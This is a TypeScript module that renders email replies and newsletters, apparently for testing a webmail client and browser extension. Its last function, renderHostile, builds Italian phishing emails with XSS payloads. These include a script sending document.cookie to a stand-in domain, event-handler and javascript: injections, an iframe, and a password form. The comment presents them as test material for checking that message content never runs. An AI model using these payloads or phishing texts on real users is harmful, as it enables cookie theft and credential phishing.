// Turns a drafted message (paragraphs, greeting, quote of the previous one) into text and HTML bodies.
import { formatQuoteDate } from './history-corpus';
import { firstName, type Language, type Person } from './history-people';

/** The remote images newsletters load: an extension must block them until the user allows it. */
export const remoteImages = {
  pixel: 'https://newsletter.example.com/pixel.png',
  banner: 'https://newsletter.example.com/banner.png',
} as const;

export interface Letter {
  language: Language;
  from: Person;
  to: Person;
  paragraphs: string[];
  /** The message being answered, quoted below the reply. */
  quoted?: { from: Person; date: Date; text: string };
}

export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (char) => `&#${char.charCodeAt(0)};`);
}

function greeting(letter: Letter): string {
  const informal = letter.from.audience === 'colleague' && letter.to.audience === 'colleague';
  const name = letter.to.generic ? '' : ` ${firstName(letter.to)}`;
  if (letter.language === 'en') return `${informal ? 'Hi' : 'Dear'}${name},`;
  return `${informal ? 'Ciao' : 'Buongiorno'}${name},`;
}

function closing(letter: Letter): string[] {
  const informal = letter.from.audience === 'colleague' && letter.to.audience === 'colleague';
  const words = letter.language === 'en' ? 'Best regards,' : informal ? 'A presto,' : 'Cordiali saluti,';
  return [words, letter.from.name, ...(letter.from.organization ? [letter.from.organization] : [])];
}

function quoteHeader(letter: Letter): string {
  const quoted = letter.quoted;
  if (!quoted) return '';
  const when = formatQuoteDate(quoted.date, letter.language);
  const who = `${quoted.from.name} <${quoted.from.address}>`;
  return letter.language === 'en' ? `On ${when}, ${who} wrote:` : `Il ${when} ${who} ha scritto:`;
}

export function renderText(letter: Letter): string {
  const blocks = [greeting(letter), ...letter.paragraphs, closing(letter).join('\n')];
  let text = blocks.join('\n\n');
  if (letter.quoted) {
    const quotedLines = letter.quoted.text
      .trimEnd()
      .split('\n')
      .map((line) => (line.startsWith('>') ? `>${line}` : line ? `> ${line}` : '>'));
    text += `\n\n${quoteHeader(letter)}\n${quotedLines.join('\n')}`;
  }
  return `${text}\n`;
}

const htmlStart =
  '<!doctype html><html><head><meta charset="utf-8"></head>' + '<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#222">';

export function renderHtml(letter: Letter): string {
  const paragraphs = [greeting(letter), ...letter.paragraphs].map((text) => `<p>${escapeHtml(text)}</p>`);
  const signature = `<p>${closing(letter).map(escapeHtml).join('<br>')}</p>`;
  let quote = '';
  if (letter.quoted) {
    const lines = letter.quoted.text.trimEnd().split('\n').map(escapeHtml).join('<br>');
    quote =
      `<p>${escapeHtml(quoteHeader(letter))}</p>` +
      `<blockquote type="cite" style="margin:0 0 0 8px;padding-left:8px;border-left:2px solid #9ab">${lines}</blockquote>`;
  }
  return `${htmlStart}${paragraphs.join('')}${signature}${quote}</body></html>`;
}

/** Newsletter layout with a remote banner and a tracking pixel. */
export function renderNewsletter(from: Person, subject: string, paragraphs: string[], language: Language): { text: string; html: string } {
  const unsubscribe = language === 'en' ? 'Unsubscribe' : 'Annulla iscrizione';
  const text = [subject, '', ...paragraphs, '', `${unsubscribe}: https://newsletter.example.com/unsubscribe`].join('\n');
  const html =
    `${htmlStart}<table role="presentation" width="600" align="center" cellpadding="0" cellspacing="0">` +
    `<tr><td><img src="${remoteImages.banner}" width="600" height="120" alt="${escapeHtml(from.organization ?? from.name)}"></td></tr>` +
    `<tr><td style="padding:16px"><h1 style="font-size:20px">${escapeHtml(subject)}</h1>` +
    paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`).join('') +
    `<p><a href="https://newsletter.example.com/offerte">${language === 'en' ? 'Read more' : 'Scopri di più'}</a></p></td></tr>` +
    `<tr><td style="font-size:11px;color:#777;padding:16px"><a href="https://newsletter.example.com/unsubscribe">${unsubscribe}</a>` +
    `<img src="${remoteImages.pixel}" width="1" height="1" alt=""></td></tr></table></body></html>`;
  return { text: `${text}\n`, html };
}

/**
 * Hostile markup on purpose: test material proving that the webmail and the extension never run or load what a
 * message carries (scripts, event handlers, javascript: links, frames, remote images).
 */
export function renderHostile(variant: number): { subject: string; text: string; html: string } {
  if (variant % 2 === 0) {
    return {
      subject: 'Verifica urgente del tuo account',
      text:
        'Gentile cliente,\n\nil tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.\n' +
        'Verifica ora: https://verifica-account-esempio.com/login\n',
      html:
        `${htmlStart}<p>Gentile cliente,</p><p>il tuo account verrà sospeso entro 24 ore se non verifichi i tuoi dati.</p>` +
        '<p><a href="https://verifica-account-esempio.com/login">Verifica ora</a></p>' +
        '<script>document.title="archivio-xss";fetch("https://verifica-account-esempio.com/?c="+document.cookie)</script>' +
        '<img src="https://verifica-account-esempio.com/x.png" onerror="document.title=\'archivio-xss\'" alt="">' +
        '</body></html>',
    };
  }
  return {
    subject: 'Documento condiviso con te',
    text: 'Ti è stato condiviso un documento.\n\nApri il documento: https://verifica-account-esempio.com/doc\n',
    html:
      `${htmlStart}<style>body{display:none}</style><p>Ti è stato condiviso un documento.</p>` +
      '<p><a href="javascript:document.title=\'archivio-xss\'">Apri il documento</a></p>' +
      '<svg onload="document.title=\'archivio-xss\'"></svg>' +
      '<iframe src="https://verifica-account-esempio.com/frame"></iframe>' +
      '<form action="https://verifica-account-esempio.com/login" method="post"><input name="password" type="password">' +
      '<button>Accedi</button></form></body></html>',
  };
}
